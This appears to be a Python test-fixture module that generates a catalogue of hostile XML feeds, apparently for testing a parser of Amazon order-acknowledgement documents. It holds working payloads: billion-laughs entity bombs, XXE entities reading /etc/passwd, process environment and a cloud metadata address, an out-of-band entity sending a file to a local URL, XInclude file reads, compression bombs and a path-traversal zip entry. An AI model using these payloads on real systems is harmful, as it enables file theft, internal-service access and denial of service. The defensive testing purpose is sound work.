"""Hostile documents, by name: made while they are read where they are large.

Each is a function that yields its bytes. What must become of each is in `answers.py`.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from io import RawIOBase

from tests.engine.documents import acknowledgement, feed, message

MEBIBYTE = 1_048_576
GOOD = message(acknowledgement())
OPEN, CLOSE = "<Message><MessageID>1</MessageID>", "</Message>"
ITEMS = acknowledgement().removesuffix("</OrderAcknowledgement>")
SHUT = "</OrderAcknowledgement>" + CLOSE

Make = Callable[[], Iterator[bytes]]
ATTACKS: dict[str, Make] = {}
"""Every attack, by a name that says what it is."""


class Stream(RawIOBase):
    """A document that is made while it is read, and that can be read again."""

    def __init__(self, make: Make) -> None:
        self._make = make
        self.seek(0)

    def seek(self, offset: int, whence: int = 0) -> int:
        self._parts = self._make()
        self._left = b""
        while offset > 0:
            offset -= len(self.read(offset) or b"")
        return offset

    def read(self, size: int = -1) -> bytes:
        while len(self._left) < size:
            part = next(self._parts, None)
            if part is None:
                break
            self._left += part
        data, self._left = self._left[:size], self._left[size:]
        return data


def one(name: str, document: str | bytes) -> None:
    """List an attack that is small enough to be kept."""
    data = document.encode() if isinstance(document, str) else document
    ATTACKS[name] = lambda: iter([data])


def large(name: str, make: Callable[[], Iterator[str]]) -> None:
    """List an attack that is made piece by piece."""
    ATTACKS[name] = lambda: (part.encode() for part in make())


def huge(text: str, count: int) -> Iterator[str]:
    """Return text over and over, without ever holding the whole."""
    at_once = max(MEBIBYTE // len(text), 1)
    for begun in range(0, count, at_once):
        yield text * min(at_once, count - begun)


def around(
    inside: Callable[[], Iterator[str]], before: str, after: str
) -> Callable[[], Iterator[str]]:
    """Put something large behind three good messages."""
    head, tail = feed("{}").split("{}")

    def make() -> Iterator[str]:
        yield head + GOOD * 3 + before
        yield from inside()
        yield after + tail

    return make


def in_head(
    inside: Callable[[], Iterator[str]], before: str, after: str
) -> Callable[[], Iterator[str]]:
    """Put something large in front of MessageType."""
    head, tail = feed(GOOD).split("<MessageType>")

    def make() -> Iterator[str]:
        yield head + before
        yield from inside()
        yield after + "<MessageType>" + tail

    return make


def times(text: str, count: int) -> Callable[[], Iterator[str]]:
    return lambda: huge(text, count)


def numbered(count: int, form: str) -> Callable[[], Iterator[str]]:
    """Return a text for each number."""

    def make() -> Iterator[str]:
        for start in range(0, count, 10_000):
            yield "".join(form.format(n) for n in range(start, start + 10_000))

    return make


def doctype(subset: str, inside: str = GOOD) -> str:
    """Return a feed with a DOCTYPE behind its declaration."""
    return feed(inside).replace("?>\n", f"?>\n<!DOCTYPE {subset}>", 1)


def bomb(levels: int, inside: str) -> str:
    entities = "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "laugh"}">'
        for n in range(levels)
    )
    return doctype(f"AmazonEnvelope [{entities}]", inside.format(f"&a{levels - 1};"))


def declared(encoding: str, document: str = "") -> str:
    return (document or feed(GOOD)).replace('"UTF-8"', f'"{encoding}"', 1)


def value(order: str) -> str:
    """Return a feed with that text as its AmazonOrderID."""
    inside = f"<AmazonOrderID>{order}</AmazonOrderID>"
    return feed(message(acknowledgement(order=inside)))


def order_of(text: str) -> Callable[[], Iterator[str]]:
    """Put a large text where one of 19 characters belongs."""
    payload = acknowledgement(order="<AmazonOrderID>{}</AmazonOrderID>")
    before, after = payload.split("{}")
    return around(lambda: iter([text]), OPEN + before, after + CLOSE)


def _entities() -> None:
    one("a billion laughs", bomb(10, GOOD + OPEN + "{}" + CLOSE))
    one("laughs in an attribute", bomb(10, GOOD + '<Message a="{}">' + CLOSE))
    one("laughs of a hundred levels", bomb(100, OPEN + "{}" + CLOSE))
    one(
        "quadratic growth of one entity",
        doctype(f'a [<!ENTITY q "{"q" * 20_000}">]', OPEN + "&q;" * 5_000 + CLOSE),
    )
    one("an entity in itself", doctype('a [<!ENTITY x "&x;">]', OPEN + "&x;" + CLOSE))
    one(
        "two entities in each other",
        doctype('a [<!ENTITY x "&y;"><!ENTITY y "&x;">]', OPEN + "&x;" + CLOSE),
    )
    for what, uri in {
        "a file": "file:///etc/passwd",
        "a path": "/etc/passwd",
        "a folder": "file:///etc/",
        "an endless device": "file:///dev/zero",
        "the environment": "file:///proc/self/environ",
        "http": "http://127.0.0.1:9/x",
        "https": "https://127.0.0.1:9/x",
        "ftp": "ftp://127.0.0.1:9/x",
        "a metadata address": "http://169.254.169.254/latest/meta-data/",
        "a share": "\\\\\\\\127.0.0.1\\\\share\\\\x",
        "php": "php://filter/read=convert.base64-encode/resource=index.php",
        "expect": "expect://id",
        "jar": "jar:http://127.0.0.1:9/x.jar!/x",
        "data": "data:text/plain;base64,QQ==",
        "gopher": "gopher://127.0.0.1:9/_x",
    }.items():
        one(
            f"an external entity from {what}",
            doctype(f'a [<!ENTITY x SYSTEM "{uri}">]', OPEN + "&x;" + CLOSE),
        )
        one(
            f"an external parameter entity from {what}",
            doctype(f'a [<!ENTITY % x SYSTEM "{uri}"> %x;]'),
        )
        one(f"an external DTD from {what}", doctype(f'a SYSTEM "{uri}"'))
    one("a public DTD", doctype('a PUBLIC "-//A//B" "http://127.0.0.1:9/a.dtd"'))
    one("a parameter entity", doctype("a [<!ENTITY % x '<!ENTITY y \"z\">'> %x;]"))
    one(
        "a parameter entity that sends a file away",
        doctype(
            'a [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % s "<!ENTITY '
            "&#37; o SYSTEM 'http://127.0.0.1:9/?%f;'>\"> %s; %o;]"
        ),
    )
    one("an unparsed entity", doctype('a [<!ENTITY x SYSTEM "x.gif" NDATA gif>]'))
    one("a notation", doctype('a [<!NOTATION gif SYSTEM "file:///bin/sh">]'))
    one("an attribute by default", doctype('a [<!ATTLIST Message b CDATA "c">]'))
    one("an element declaration", doctype("a [<!ELEMENT a (a,a)*>]"))
    one("an empty DOCTYPE", doctype("AmazonEnvelope"))
    one("a DOCTYPE in small letters", feed(GOOD).replace("?>\n", "?><!doctype a>", 1))
    one("a DOCTYPE that never ends", feed(GOOD).split("?>")[0] + "?><!DOCTYPE a [")
    one("a conditional section", doctype("a [<![INCLUDE[<!ENTITY x 'y'>]]>]"))
    one("100,000 entities", doctype("a [" + "<!ENTITY e 'x'>" * 100_000 + "]"))
    one("a DOCTYPE behind a comment", doctype("a").replace("<!D", "<!-- c --><!D", 1))
    one("a DOCTYPE behind an instruction", doctype("a").replace("<!D", "<?p?><!D", 1))
    one("a DOCTYPE behind 60 kB", doctype("a").replace("<!D", " " * 60_000 + "<!D", 1))
    one("a DOCTYPE within the envelope", feed("<!DOCTYPE a>" + GOOD))
    one("a DOCTYPE behind the envelope", feed(GOOD) + "<!DOCTYPE a>")
    one("a DOCTYPE in UTF-16", doctype("a").replace("UTF-8", "UTF-16").encode("utf-16"))
    one("an entity that nobody declared", value("&order;"))
    one("an entity in a CDATA section", value("<![CDATA[&x;]]>"))
    one("a bare ampersand", value("A & B"))
    one(
        "standalone, with a DOCTYPE",
        doctype("a").replace("?>", " standalone='no'?>", 1),
    )


def _fetching() -> None:
    xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    for what, rest in {
        "a file": 'href="file:///etc/passwd"/>',
        "a file as text": 'href="file:///etc/passwd" parse="text"/>',
        "http": 'href="http://127.0.0.1:9/x"/>',
        "a fallback": 'href="x"><xi:fallback>y</xi:fallback></xi:include>',
        "the document itself": 'href="" xpointer="element(/1)"/>',
    }.items():
        one(f"XInclude of {what}", feed(GOOD + f"<xi:include {xi} {rest}"))
    one(
        "XInclude in the header",
        feed(GOOD, after_header=f'<xi:include {xi} href="a"/>'),
    )
    large(
        "10,000 XIncludes",
        around(times(f'<xi:include {xi} href="file:///etc/passwd"/>', 10_000), "", ""),
    )
    for what, uri in {
        "http": "http://127.0.0.1:9/a.xsd",
        "a file": "file:///etc/passwd",
        "a device": "/dev/zero",
    }.items():
        for name in ("xsi:schemaLocation", "xsi:noNamespaceSchemaLocation"):
            hinted = feed(GOOD).replace('instance">', f'instance" {name}="{uri}">', 1)
            one(f"{name} with {what}", hinted)
    one(
        "a schemaLocation of 5,000 pairs",
        feed(GOOD).replace(
            'instance">', f'instance" xsi:schemaLocation="{"u http://a/ " * 5_000}">', 1
        ),
    )
    one(
        "xsi:type of a stranger",
        feed(GOOD.replace("<Message>", '<Message xsi:type="a">')),
    )
    one("xsi:nil", feed(GOOD.replace("<Message>", '<Message xsi:nil="true">')))
    one("xml:base", feed(GOOD).replace("<Amazon", '<Amazon xml:base="http://a/"', 1))
    one("a stylesheet", feed('<?xml-stylesheet href="http://127.0.0.1:9/x"?>' + GOOD))
    one(
        "a schema by instruction",
        feed('<?xml-model href="http://127.0.0.1:9/"?>' + GOOD),
    )


def _encodings() -> None:
    plain = feed(GOOD)
    for name in (
        "UTF-7", "UTF-32", "UTF-16", "EBCDIC-CP-US", "ISO-2022-JP", "ISO-2022-KR",
        "HZ-GB-2312", "Big5", "KOI8-R", "x-user-defined", "punycode", "idna", "rot13",
        "zip", "base64", "unicode_escape", "raw_unicode_escape", "undefined", "mbcs",
        "utf-8-sig", "SCSU", "BOCU-1", "CESU-8", "../../etc/passwd", "%s%n", "",
    ):  # fmt: skip
        one(f"declared to be {name or 'nothing'}", declared(name))
    one("UTF-7 within UTF-8", value("+ADw-script+AD4-"))
    one("an encoding of 50 kB", declared("x" * 50_000))
    one("an encoding with a line end", declared("UTF-8\n"))
    one("an encoding with a NUL", declared("UTF-8\0"))
    for name in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be", "cp037"):
        one(f"in {name} without a mark", declared(name.upper()).encode(name))
    for name in ("utf-16", "utf-32"):
        one(f"in {name} with its mark", declared(name.upper()).encode(name))
    marked = declared("UTF-16").encode("utf-16")
    one("UTF-16 that calls itself UTF-8", plain.encode("utf-16"))
    one("UTF-16 of an odd length", marked[:-1])
    one("UTF-16 with half a surrogate pair", marked[:300] + b"\x00\xd8" + marked[300:])
    one("UTF-8 behind the mark of UTF-16", b"\xff\xfe" + plain.encode())
    one("two marks", b"\xef\xbb\xbf" * 2 + plain.encode())
    one(
        "a mark, and Latin-1 declared",
        b"\xef\xbb\xbf" + declared("ISO-8859-1").encode(),
    )
    for what, wrong in {
        "an overlong <": b"\xc0\xbc",
        "an overlong NUL": b"\xc0\x80",
        "an overlong slash": b"\xe0\x80\xaf",
        "a surrogate": b"\xed\xa0\x80",
        "six bytes for one": b"\xfc\x84\x80\x80\x80\x80",
        "a number above Unicode": b"\xf4\x90\x80\x80",
        "a lone continuation": b"\x80",
        "half a character": b"\xe2\x82",
        "U+FFFE": b"\xef\xbf\xbe",
        "U+FFFF": b"\xef\xbf\xbf",
    }.items():
        one(
            f"UTF-8 with {what}",
            value("X").encode().replace(b">X<", b">" + wrong + b"<"),
        )
    one("half a character at the end", plain.encode() + b"\xe2\x82")
    one("Shift_JIS with half a character", declared("Shift_JIS").encode() + b"\x81")
    one("GB18030 with half a character", declared("GB18030").encode() + b"\x81\x30")
    one("version 1.1", plain.replace("1.0", "1.1", 1))
    one("version 2.0", plain.replace('"1.0"', '"2.0"', 1))
    one("two declarations", plain.split("\n")[0] * 2 + plain)
    one("a declaration behind a blank", " " + plain)
    one("a declaration of 60 kB", plain.replace("<?xml ", "<?xml" + " " * 60_000, 1))


def _nesting_and_names() -> None:
    def nested(depth: int) -> Callable[[], Iterator[str]]:
        return lambda: iter(["<a>" * depth, "</a>" * depth])

    large("250 levels", around(nested(250), OPEN, CLOSE))
    large("300 levels", around(nested(300), OPEN, CLOSE))
    large("100,000 levels", around(nested(100_000), OPEN, CLOSE))
    large("100,000 levels, never closed", around(times("<a>", 100_000), OPEN, ""))
    large("10 million levels", around(times("<a>", 10_000_000), OPEN, ""))
    large("messages in messages", around(times("<Message>", 200_000), "", ""))
    large("envelopes in envelopes", around(times("<AmazonEnvelope>", 100_000), "", ""))
    large("levels in the head", in_head(lambda: iter(["<a>" * 10_000]), "", ""))
    large("levels of distinct names", around(numbered(100_000, "<a{}>"), OPEN, ""))
    for what, size in {
        "100 kB": 100_000,
        "1 MB": 1_000_000,
        "50 MB": 50_000_000,
    }.items():
        large(
            f"an element name of {what}",
            around(times("n", size), OPEN + "<", "/>" + CLOSE),
        )
    large(
        "an attribute name of 100 kB",
        around(times("n", 100_000), OPEN + "<a ", '="1"/>' + CLOSE),
    )
    large("a prefix of 100 kB", around(times("n", 100_000), OPEN + "<", ":a/>" + CLOSE))
    large(
        "a million attributes",
        around(numbered(1_000_000, ' a{}="1"'), "<Message", "></Message>"),
    )
    large(
        "50,000 attributes",
        around(numbered(50_000, ' a{}="1"'), "<Message", "></Message>"),
    )
    large(
        "one attribute 100,000 times",
        around(times(' a="1"', 100_000), "<Message", "></Message>"),
    )
    large(
        "100,000 namespaces",
        around(numbered(100_000, ' xmlns:a{}="u"'), "<Message", "></Message>"),
    )
    large(
        "20,000 namespaces",
        around(numbered(20_000, ' xmlns:a{}="u"'), "<Message", "></Message>"),
    )
    large("a million names", around(numbered(1_000_000, "<a{}/>"), OPEN, CLOSE))
    large("100,000 names", around(numbered(100_000, "<a{}/>"), OPEN, CLOSE))
    large(
        "names in a million messages",
        around(numbered(1_000_000, "<Message><a{}/></Message>"), "", ""),
    )
    large(
        "prefixes in a million messages",
        around(
            numbered(
                1_000_000,
                GOOD.replace("<Message>", '<Message xmlns:p{}="u{}">').replace(
                    "{}", "{0}"
                ),
            ),
            "",
            "",
        ),
    )
    large("three million children", around(times("<a/>", 3_000_000), OPEN, CLOSE))
    one("an undeclared prefix", feed(message("<p:a/>")))
    one("the prefix xmlns bound", feed(message('<a xmlns:xmlns="u"/>')))
    one("the prefix xml bound anew", feed(message('<a xmlns:xml="u"/>')))
    one(
        "a stranger's namespace",
        feed(GOOD).replace("<AmazonEnvelope ", '<AmazonEnvelope xmlns="u" ', 1),
    )
    one("a name that begins with a digit", feed(message("<1a/>")))
    one("a name of emoji", feed(message("<😀/>")))


def _floods() -> None:
    large(
        "an attribute of 100 MB",
        around(times("x", 100 * MEBIBYTE), '<Message a="', '"></Message>'),
    )
    large(
        "an attribute of 100 MB in the head",
        in_head(times("x", 100 * MEBIBYTE), '<a b="', '"/>'),
    )
    large("a text of 100 MB", around(times("x", 100 * MEBIBYTE), OPEN, CLOSE))
    large(
        "a text of 100 MB that never ends", around(times("x", 100 * MEBIBYTE), OPEN, "")
    )
    large("100 MB of blanks in the head", in_head(times(" ", 100 * MEBIBYTE), "", ""))
    large(
        "100 MB of blanks between messages", around(times(" \n", 50 * MEBIBYTE), "", "")
    )
    large("100 MB of text that is no XML", times("x", 100 * MEBIBYTE))
    large("100 MB of <", times("<", 100 * MEBIBYTE))
    large("100 MB of &", around(times("&", 100 * MEBIBYTE), OPEN, CLOSE))
    large("100,000 references", around(times("&amp;", 100_000), OPEN, CLOSE))
    large(
        "100,000 references to characters",
        around(times("&#x41;", 100_000), OPEN, CLOSE),
    )
    large(
        "a CDATA section of 100 MB",
        around(times("x", 100 * MEBIBYTE), OPEN + "<![CDATA[", "]]>" + CLOSE),
    )
    large("50,000 CDATA sections", around(times("<![CDATA[x]]>", 50_000), OPEN, CLOSE))
    large("a million ]", around(times("]", 900_000), OPEN + "<![CDATA[", "]]>" + CLOSE))
    one("]]> in a text", value("]]>"))
    one("a CDATA section that never ends", feed(OPEN + "<![CDATA["))
    large("a comment of 100 MB", around(times("x", 100 * MEBIBYTE), "<!--", "-->"))
    large("a comment of 900 kB of dashes", around(times("- ", 450_000), "<!--", "-->"))
    large("100,000 comments", around(times("<!---->", 100_000), "", ""))
    large(
        "comments in a value",
        around(times("<!--c-->", 100_000), OPEN + "<a>", "</a>" + CLOSE),
    )
    large(
        "100 MB of comments in the head",
        in_head(times("<!--c-->", 12 * MEBIBYTE), "", ""),
    )
    one("a comment that never ends", feed("<!--" + GOOD))
    one("two dashes in a comment", feed("<!-- -- -->" + GOOD))
    one("a comment within a value", value("026-12<!-- c -->34567-1234567"))
    large("an instruction of 100 MB", around(times("x", 100 * MEBIBYTE), "<?p ", "?>"))
    large("100,000 instructions", around(times("<?p?>", 100_000), "", ""))
    one("an instruction that never ends", feed("<?p " + GOOD))
    one("an instruction called xml", feed("<?XML p?>" + GOOD))
    one("an instruction within a value", value("026-12<?p?>34567-1234567"))
    large(
        "10,000 bad items in one message",
        around(lambda: iter(["<Item/>" * 10_000]), OPEN + ITEMS, SHUT),
    )
    large(
        "140,000 bad items in one message",
        around(lambda: iter(["<Item/>" * 140_000]), OPEN + ITEMS, SHUT),
    )
    large("10,000 strays", around(times("<a/>", 10_000), "", ""))
    large("10,000 empty messages", around(times("<Message/>", 10_000), "", ""))
    large(
        "1 MB of messages spelled oddly",
        around(times(GOOD.replace(CLOSE, "</Message >"), 6_000), "", ""),
    )
    for what, text in {
        "digits": "1" * 900_000,
        "hyphens": "-" * 900_000,
        "almost an order id, again and again": "026-1234567-123456" * 40_000,
        "blanks": "x" + " " * 900_000,
    }.items():
        large(f"900 kB of {what} for an order id", order_of(text))
    one(
        "a MessageID of 900,000 digits", feed(GOOD.replace(">1<", f">{'9' * 900_000}<"))
    )
    one("a date of 900,000 digits", feed(GOOD, version="9" * 60_000))


def _bytes() -> None:
    plain = feed(GOOD).encode()
    one("a NUL in a text", value("0\x0026"))
    one("a NUL in a name", feed(message("<a\0b/>")))
    one("a NUL in an attribute", feed(message('<a b="\0"/>')))
    one("a NUL first", b"\0" + plain)
    one("a NUL last", plain + b"\0")
    one("a reference to NUL", value("&#0;"))
    one("a reference to a surrogate", value("&#xD800;"))
    one("a reference above Unicode", value("&#x110000;"))
    one("a reference of 100,000 digits", value(f"&#{'9' * 100_000};"))
    ATTACKS["100 MB of NUL"] = lambda: (b"\0" * MEBIBYTE for _ in range(100))
    for code in (1, 8, 11, 12, 27, 31):
        one(f"the control character {code}", value(chr(code)))
    for name, at in {
        "in the declaration": 10, "in the root": 60, "in the header": 130,
        "in a message": plain.index(b"<StatusCode>") + 5,
        "in an end tag": len(plain) - 5, "before the end": plain.rindex(b"</Amazon"),
    }.items():  # fmt: skip
        one(f"cut off {name}", plain[:at])
    one("nothing", b"")
    one("a mark and nothing", b"\xef\xbb\xbf")
    one("a declaration and nothing", plain.split(b"\n")[0])
    one("one <", b"<")
    one("two feeds", plain + plain)
    one("two envelopes", plain + plain.split(b"\n", 1)[1])
    one("a thousand feeds", plain * 1_000)
    one("junk behind the envelope", plain + b"junk")
    one("NULs behind the envelope", plain + b"\0" * 1_000)
    one("a comment behind the envelope", plain + b"<!-- end -->")
    one("900 kB of line ends behind the envelope", plain + b"\n" * 900_000)
    one("an end tag too many", plain + b"</AmazonEnvelope>")
    one("end tags crossed", feed("<Message><MessageID>1</Message></MessageID>"))


def _archives() -> None:
    zeros = b"\0" * (20 * MEBIBYTE)
    plain = feed(GOOD).encode()
    one("gzip of a feed", gzip.compress(plain))
    one("gzip of 20 MB", gzip.compress(zeros))
    one("gzip of gzip", gzip.compress(gzip.compress(zeros)))
    one("gzip cut off", gzip.compress(plain)[:20])
    one("zlib of a feed", zlib.compress(plain))
    one("bzip2 of 20 MB", bz2.compress(zeros))
    one("xz of 20 MB", lzma.compress(zeros))
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("../../feed.xml", zeros)
    one("a zip archive with a bomb", archive.getvalue())
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz") as packed:
        packed.addfile(tarfile.TarInfo("feed.xml"))
    one("a tar archive", archive.getvalue())
    one("a PDF", b"%PDF-1.7\n" + plain)
    one("a picture", b"\x89PNG\r\n\x1a\n" + bytes(1_000))
    one("a program", b"\x7fELF" + bytes(1_000))
    one("JSON", b'{"AmazonEnvelope": {}}')
    one("a page of HTML", b"<!DOCTYPE html><html><body>" + plain)
    one("a SOAP envelope", b'<s:Envelope xmlns:s="http://a/"><s:Body/></s:Envelope>')


_entities()
_fetching()
_encodings()
_nesting_and_names()
_floods()
_bytes()
_archives()
